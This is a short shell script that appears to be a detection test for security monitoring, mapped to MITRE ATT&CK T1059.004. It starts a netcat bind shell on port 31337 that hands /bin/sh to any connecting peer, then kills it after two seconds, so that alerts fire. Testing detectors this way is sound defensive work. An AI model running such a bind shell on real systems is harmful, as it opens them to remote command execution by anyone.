#!/bin/sh
# title: Bind shell (netcat listening with -e)
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# source: https://attack.mitre.org/techniques/T1059/004/ ; Falco "Netcat Remote Code Execution in Container"
# expect: Netcat or socat executing a program
# expect: Unexpected listening port
# peer: :::31337
/bin/nc -l -p 31337 -e /bin/sh &
sleep 2
kill $!
